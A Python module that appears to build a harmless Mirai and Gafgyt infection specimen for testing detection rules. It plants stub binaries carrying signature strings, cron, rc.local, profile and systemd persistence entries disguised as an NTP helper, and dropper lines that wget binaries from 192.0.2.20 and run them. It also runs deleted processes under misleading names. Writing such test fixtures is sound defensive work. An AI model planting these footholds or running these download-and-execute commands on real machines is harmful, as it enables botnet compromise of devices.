"""Plants a harmless infection by Mirai and Gafgyt, and runs a program of each whose file is deleted.

Programs exit at once, or sleep; they carry only the words that the rules look for. Nothing is fetched or scanned.
"""

import contextlib
from collections.abc import Iterator
from pathlib import Path

from quetsach.packs.specimen import Planted
from quetsach.packs.specimen.linux_tree import Tree, running_deleted
from quetsach.packs.specimen.program import build_elf

KEY = 0x22
"""What the four bytes of 0xdeadbeef, the key in Mirai's source, come to when one is applied after the other."""

MIRAI_X86, MIRAI_MIPS, GAFGYT, SCRIPT = (
    "/tmp/.lsb/dvrHelper",
    "/var/run/mips",
    "/usr/local/share/.ntpd",
    "/tmp/bins.sh",
)
_TABLE = (
    b"listening tun0\0",
    b"/dev/misc/watchdog\0",
    b"TSource Engine Query\0",
    b"/bin/busybox kill -9 \0",
    b"ECCHI: applet not found\0",
)
MIRAI_STRINGS = b"".join(bytes(byte ^ KEY for byte in word) for word in _TABLE)
GAFGYT_STRINGS = b"\0".join(
    (
        b"/proc/net/route",
        b"LOLNOGTFO",
        b"KILLATTK",
        b"None Killed.",
        b"Killed %d.",
        b"JUNK Flooding %s:%d for %d seconds.",
        b"Failed opening raw socket.",
        b"",
    )
)
# The first line ends the script; what follows is only there to be read.
_DOWNLOAD = "#!/bin/sh\nexit 0\n" + "".join(
    f"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.20/bins/x.{kind}; chmod +x x.{kind}\n"
    for kind in ("mips", "mpsl", "arm7", "x86", "ppc", "sh4")
)
_SERVICE = f"""[Unit]
Description=Network time helper

[Service]
ExecStart={GAFGYT}
Restart=always

[Install]
WantedBy=multi-user.target
"""
_TIMER = """[Timer]
OnBootSec=1min
Unit=ntp-helper.service

[Install]
WantedBy=timers.target
"""


def build(root: Path) -> list[Planted]:
    """Plant both programs, the script that brings them, and the footholds that variants use.

    A line of ``/etc/inittab`` is not among them: that table is only looked at.
    """
    tree = Tree(root)
    tree.beside("/etc/init.d/ssh", "#!/bin/sh\n/usr/sbin/sshd\n", mode=0o755)
    tree.file(MIRAI_X86, build_elf(MIRAI_STRINGS), mode=0o755)
    tree.file(MIRAI_MIPS, build_elf(MIRAI_STRINGS, machine=8, bits=32, big_endian=True), mode=0o755)
    tree.file(GAFGYT, build_elf(GAFGYT_STRINGS, machine=3, bits=32), mode=0o755)
    tree.file(SCRIPT, _DOWNLOAD.encode(), mode=0o755)
    tree.line("cron-entry", "/etc/cron.d/ntpd", f"*/5 * * * * root {GAFGYT} >/dev/null 2>&1")
    tree.line("cron-entry", "/var/spool/cron/crontabs/root", f"@reboot /bin/sh {SCRIPT}", mode=0o600)
    tree.line(
        "cron-entry",
        "/etc/crontab",
        "* * * * * root cd /tmp; wget http://192.0.2.20/bins.sh -O .b; chmod 777 .b; sh .b",
    )
    tree.line("rc-local-line", "/etc/rc.local", f"{MIRAI_X86} telnet.x86 &", mode=0o755)
    tree.line("rc-local-line", "/etc/init.d/ssh", f"{GAFGYT} &", mode=0o755)
    tree.line("profile-line", "/etc/profile", f"{MIRAI_X86} profile.x86 >/dev/null 2>&1 &")
    tree.unit("ntp-helper.service", _SERVICE, wanted_by="multi-user.target")
    tree.unit("ntp-helper.timer", _TIMER, wanted_by="timers.target")
    return tree.planted


@contextlib.contextmanager
def processes(root: Path) -> Iterator[list[int]]:
    """Run a program of each family below ``root``, deleted and under a name that says nothing; yield their numbers."""
    with (
        running_deleted(root / "tmp/.started-mirai", MIRAI_STRINGS, called="7k2j9d0cq1") as mirai,
        running_deleted(root / "tmp/.started-gafgyt", GAFGYT_STRINGS, called="/usr/sbin/dropbear") as gafgyt,
    ):
        yield [mirai, gafgyt]
